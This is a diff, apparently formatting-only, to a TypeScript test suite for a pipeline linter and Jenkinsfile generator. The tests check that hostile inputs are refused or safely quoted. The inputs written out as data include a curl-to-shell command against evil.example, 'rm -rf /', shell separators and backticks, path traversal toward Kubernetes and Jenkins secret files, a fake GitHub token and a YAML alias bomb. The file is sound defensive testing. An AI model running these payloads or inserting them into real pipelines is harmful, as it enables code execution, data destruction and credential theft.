@@ -17,14 +17,21 @@ const INJECTIONS: Record<string, string> = {
   'shell substitution': '$(curl evil.example | sh)',
   'shell backticks': '`id`',
   'shell separator': 'x; rm -rf /',
-  'newline': 'x\nsh "id"',
-  'handlebars': '{{#each this}}{{this}}{{/each}}',
+  newline: 'x\nsh "id"',
+  handlebars: '{{#each this}}{{this}}{{/each}}',
   'handlebars partial': '{{> Jenkinsfile}}',
 };
 const TODAY = '2026-01-01';
 const lint = (text: string) => lintLoaded(loadText(text, 'pipeline.yaml'), undefined, { today: TODAY });
 const dump = (patch: Patch): string => jsYaml.dump(patched(patch), { lineWidth: -1 });
-const errorRules = (text: string): string[] => [...new Set(lint(text).diagnostics.filter((d) => d.severity === 'error').map((d) => d.ruleId))].sort();
+const errorRules = (text: string): string[] =>
+  [
+    ...new Set(
+      lint(text)
+        .diagnostics.filter((d) => d.severity === 'error')
+        .map((d) => d.ruleId),
+    ),
+  ].sort();
 
 /** Data fields whose schema pattern leaves no room for quotes, `$`, backticks, `;`, braces or line breaks. */
 const CONSTRAINED: Record<string, (v: string) => Patch> = {
@@ -49,7 +56,7 @@ const PATHS: Record<string, (v: string) => Patch> = {
 };
 const PATH_SAFE = new Set(['shell separator', 'handlebars', 'handlebars partial']);
 
-test('the base config is clean, so each refusal below is the hostile value\'s', () => {
+test("the base config is clean, so each refusal below is the hostile value's", () => {
   assert.equal(errorRules(dump({})), []);
 });
 
@@ -61,37 +68,96 @@ for (const [field, patch] of Object.entries(CONSTRAINED)) {
 
 for (const [field, patch] of Object.entries(PATHS)) {
   test(`${field}: injections with quotes, $, backticks or line breaks are refused by the schema; the rest are plain names`, () => {
-    for (const [kind, value] of Object.entries(INJECTIONS)) assert.equal(errorRules(dump(patch(value))), PATH_SAFE.has(kind) ? [] : ['schema'], `${field} <- ${kind}`);
+    for (const [kind, value] of Object.entries(INJECTIONS))
+      assert.equal(errorRules(dump(patch(value))), PATH_SAFE.has(kind) ? [] : ['schema'], `${field} <- ${kind}`);
   });
 }
 
 const REFUSALS: Array<{ name: string; text: () => string; rule: string }> = [
-  { name: 'manifest path climbing out', text: () => dump({ environments: { dev: { manifest: '../../../etc/kubernetes/admin.conf' } } }), rule: 'manifest-path-unsafe' },
+  {
+    name: 'manifest path climbing out',
+    text: () => dump({ environments: { dev: { manifest: '../../../etc/kubernetes/admin.conf' } } }),
+    rule: 'manifest-path-unsafe',
+  },
   { name: 'absolute manifest path', text: () => dump({ environments: { prod: { manifest: '/root/.kube/config' } } }), rule: 'manifest-path-unsafe' },
-  { name: 'junit report outside the workspace', text: () => dump({ build: { reports: { junit: '../../other-job/junit.xml' } } }), rule: 'workspace-path-unsafe' },
-  { name: 'absolute coverage report', text: () => dump({ build: { reports: { coverage: '/var/lib/jenkins/secrets/master.key' } } }), rule: 'workspace-path-unsafe' },
+  {
+    name: 'junit report outside the workspace',
+    text: () => dump({ build: { reports: { junit: '../../other-job/junit.xml' } } }),
+    rule: 'workspace-path-unsafe',
+  },
+  {
+    name: 'absolute coverage report',
+    text: () => dump({ build: { reports: { coverage: '/var/lib/jenkins/secrets/master.key' } } }),
+    rule: 'workspace-path-unsafe',
+  },
   { name: 'build context outside the workspace', text: () => dump({ image: { context: '../..' } }), rule: 'workspace-path-unsafe' },
   { name: 'password in the gitops URL', text: () => dump({ gitops: { repo: 'https://bot:hunter2@github.com/acme/k8s-manifests.git' } }), rule: 'schema' },
-  { name: 'a token spliced into a command URL', text: () => dump({ custom: [{ name: 'Push', after: 'publish', run: 'git push https://${GITHUB_TOKEN}@github.com/acme/x.git' }] }), rule: 'credentials-in-url' },
-  { name: 'a token pasted as a value', text: () => dump({ image: { buildArgs: { NPM_TOKEN: 'ghp_0123456789abcdefghijABCDEFGHIJ012345' } } }), rule: 'secret-in-config' },
-  { name: '10,000 environments', text: () => dump({ environments: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`e${i}`, { branch: `b${i}` }])) }), rule: 'schema' },
-  { name: '1,000 custom stages', text: () => dump({ custom: Array.from({ length: 1000 }, (_, i) => ({ name: `s${i}`, after: 'test', run: 'true' })) }), rule: 'schema' },
-  { name: 'a 900 KB approval message', text: () => dump({ environments: { prod: { approval: { submitters: ['ops'], message: 'x'.repeat(900_000) } } } }), rule: 'schema' },
+  {
+    name: 'a token spliced into a command URL',
+    text: () => dump({ custom: [{ name: 'Push', after: 'publish', run: 'git push https://${GITHUB_TOKEN}@github.com/acme/x.git' }] }),
+    rule: 'credentials-in-url',
+  },
+  {
+    name: 'a token pasted as a value',
+    text: () => dump({ image: { buildArgs: { NPM_TOKEN: 'ghp_0123456789abcdefghijABCDEFGHIJ012345' } } }),
+    rule: 'secret-in-config',
+  },
+  {
+    name: '10,000 environments',
+    text: () => dump({ environments: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`e${i}`, { branch: `b${i}` }])) }),
+    rule: 'schema',
+  },
+  {
+    name: '1,000 custom stages',
+    text: () => dump({ custom: Array.from({ length: 1000 }, (_, i) => ({ name: `s${i}`, after: 'test', run: 'true' })) }),
+    rule: 'schema',
+  },
+  {
+    name: 'a 900 KB approval message',
+    text: () => dump({ environments: { prod: { approval: { submitters: ['ops'], message: 'x'.repeat(900_000) } } } }),
+    rule: 'schema',
+  },
   { name: 'a 900 KB command', text: () => dump({ build: { test: 'y'.repeat(900_000) } }), rule: 'schema' },
   { name: 'a 1 MB string (over the file limit)', text: () => dump({ app: 'z'.repeat(1_100_000) }), rule: 'file-too-large' },
   // Found by the fuzz test (seed 99, case 7329): YAML reads 1e309 as Infinity, which the generator cannot write.
-  { name: 'an infinite metrics limit (1e309)', text: () => dump({ environments: { prod: { healthCheck: { url: 'https://orders.acme.com/healthz', metrics: { prometheus: 'https://prometheus.acme.internal', checks: [{ name: 'errors', preset: 'error-rate', max: 0.02 }] } } } } }).replace('max: 0.02', 'max: 1e309'), rule: 'schema' },
+  {
+    name: 'an infinite metrics limit (1e309)',
+    text: () =>
+      dump({
+        environments: {
+          prod: {
+            healthCheck: {
+              url: 'https://orders.acme.com/healthz',
+              metrics: { prometheus: 'https://prometheus.acme.internal', checks: [{ name: 'errors', preset: 'error-rate', max: 0.02 }] },
+            },
+          },
+        },
+      }).replace('max: 0.02', 'max: 1e309'),
+    rule: 'schema',
+  },
   { name: 'an infinite coverage minimum (1e309)', text: () => dump({ gates: { coverage: { min: 80 } } }).replace('min: 80', 'min: 1e309'), rule: 'schema' },
   { name: 'a NaN threshold (.nan)', text: () => dump({ gates: { coverage: { min: 80 } } }).replace('min: 80', 'min: .nan'), rule: 'schema' },
-  { name: 'an infinite replica count (.inf)', text: () => dump({ environments: { prod: { replicas: 3 } } }).replace('replicas: 3', 'replicas: .inf'), rule: 'schema' },
-  { name: 'an alias bomb', text: () => `a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 8 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`).join('\n')}\n${dump({})}`, rule: 'yaml-aliases' },
+  {
+    name: 'an infinite replica count (.inf)',
+    text: () => dump({ environments: { prod: { replicas: 3 } } }).replace('replicas: 3', 'replicas: .inf'),
+    rule: 'schema',
+  },
+  {
+    name: 'an alias bomb',
+    text: () =>
+      `a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 8 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`).join('\n')}\n${dump({})}`,
+    rule: 'yaml-aliases',
+  },
 ];
 
 for (const r of REFUSALS) {
   test(`refused with [${r.rule}]: ${r.name}`, () => {
     const result = lint(r.text());
     const errors = result.diagnostics.filter((d) => d.severity === 'error');
-    assert.ok(errors.some((d) => d.ruleId === r.rule), `rules: ${errors.map((d) => d.ruleId).join(', ') || 'none'}`);
+    assert.ok(
+      errors.some((d) => d.ruleId === r.rule),
+      `rules: ${errors.map((d) => d.ruleId).join(', ') || 'none'}`,
+    );
     for (const d of errors) assert.ok(d.message.length <= 500, `[${d.ruleId}] message of ${d.message.length} characters`);
   });
 }
@@ -119,7 +185,11 @@ test('free-text fields (and paths, for what they accept) take the injections, an
     for (const [kind, value] of Object.entries(INJECTIONS)) {
       if (field in PATHS && !PATH_SAFE.has(kind)) continue;
       const result = lint(dump(patch(value)));
-      assert.equal(result.diagnostics.filter((d) => d.severity === 'error').map((d) => d.ruleId), [], `${field} <- ${kind}`);
+      assert.equal(
+        result.diagnostics.filter((d) => d.severity === 'error').map((d) => d.ruleId),
+        [],
+        `${field} <- ${kind}`,
+      );
       cases.push({ label: `${field} <- ${kind}`, value, text: generateJenkinsfile(result.model!, { source: 'pipeline.yaml', command: 'pipewright gen' }) });
     }
   }
@@ -129,7 +199,10 @@ test('free-text fields (and paths, for what they accept) take the injections, an
     assert.ok(p.ok, `${label}: ${p.error}`);
     assert.is(p.gstrings, 0, `${label}: a GString`);
     assert.ok(p.strings.includes(value) || factsHold(p.strings, value), `${label}: Groovy does not read the value back as one string`);
-    assert.not.ok(p.sh.some((s) => s !== null && s.includes(value)), `${label}: the value is inside an sh script`);
+    assert.not.ok(
+      p.sh.some((s) => s !== null && s.includes(value)),
+      `${label}: the value is inside an sh script`,
+    );
   });
 });
 
